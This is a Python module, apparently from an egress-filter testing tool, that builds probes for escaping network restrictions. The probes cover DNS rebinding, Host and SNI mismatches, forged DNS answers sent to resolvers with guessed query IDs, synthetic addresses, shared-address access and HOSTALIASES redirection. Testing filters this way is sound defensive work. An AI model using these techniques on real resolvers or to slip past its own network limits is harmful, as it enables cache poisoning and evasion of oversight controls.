"""Lying with addresses: where names lead, and what programs make of it."""

from __future__ import annotations

import os
import random
import socket
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

from exitway.attack import wire
from exitway.attack.attempts.dns import look_up, resolvers
from exitway.attack.attempts.http import request
from exitway.attack.probe import Reached, Tries, Try, talk
from exitway.attack.target import Target


def rebinding(target: Target) -> Tries:
    """C6, C8. By the name's own address, and by that of another one: the Host decides."""
    ports = [port for port in (target.http, target.helper_port) if port]
    said: Tries = [
        Try(f"HTTP to {name} port {port}, dialled as {at}", talk, at, port, request(name))
        for name in target.inward
        for port in ports
        for at in (name, target.refused)
    ]
    return said + [
        Try(f"TLS to {name}", talk, name, target.tls, wire.client_hello(name.encode())) for name in target.inward
    ]


def aliases(target: Target) -> Tries:
    """C8."""
    return rebinding(replace(target, inward=target.aliased))


def poisoned_answers(target: Target) -> Tries:
    """C7. Answers that nobody asked for, to whoever might take them; then the name."""
    address = bytes(map(int, target.ipv4.split(".")))
    for server in resolvers():
        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            for number in (0, 1, 4711, *random.sample(range(65536), 50)):
                question = wire.query(target.allowed, number=number)
                answer = (
                    question[:2]
                    + b"\x84\x00"
                    + question[4:6]
                    + b"\0\1"
                    + question[8:]
                    + b"\xc0\x0c\0\1\0\1\0\1\0\0\0\4"
                    + address
                )
                datagrams.sendto(answer, (server, 53))
    return [Try("then HTTP", talk, target.allowed, target.http, request(target.allowed))]


def old_addresses(target: Target) -> Tries:
    """C9. Addresses that were never given out, and those of names, long after."""
    look_up(target.refused)
    synthetic = [f"240.240.{random.randrange(256)}.{random.randrange(256)}" for _ in range(20)] + [
        f"2001:2::{n:x}" for n in (1, 2, 3, 0xFFFF)
    ]
    hello = wire.client_hello(target.refused.encode())
    return [
        line
        for address in synthetic
        for line in (
            Try(f"TCP, {address}", talk, address, 7, b"x\r\n"),
            Try(f"TLS, {address}", talk, address, target.tls, hello),
        )
    ]


def shared_address(target: Target) -> Tries:
    """C12. Another site at an allowed one's address."""
    hello = wire.client_hello(target.refused.encode())
    return [
        line
        for address in target.addresses
        for line in (
            Try(f"HTTP, {address}", talk, address, target.http, request(target.refused)),
            Try(f"TLS, {address}", talk, address, target.tls, hello),
            Try(f"TCP, {address}", talk, address, 22, b"x\r\n"),
        )
    ]


def own_hosts_file(target: Target) -> Tries:
    """C13. To name addresses oneself, or to have the proxy do it. Nothing is written, lest it remain."""
    for path in ("/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/etc/gai.conf"):
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            continue
        raise Reached(f"{path} can be written")
    hosts = Path(f"/tmp/aliases-{os.getpid()}")
    hosts.write_text(f"alias {target.refused}\n")
    try:
        command = [sys.executable, "-I", "-c", "import socket; print(socket.getaddrinfo('alias', 80))"]
        alias = subprocess.run(
            command,
            env=os.environ | {"HOSTALIASES": str(hosts)},
            capture_output=True,
            text=True,
            timeout=20,
            check=False,
        )
    finally:
        hosts.unlink()
    return [
        f"HOSTALIASES: {(alias.stdout or alias.stderr).strip()[-60:]}",
        Try("an address of our own for an allowed name", talk, target.ipv4, target.http, request(target.allowed)),
        Try("the same, TLS", talk, target.ipv4, target.tls, wire.client_hello(target.allowed.encode())),
    ]
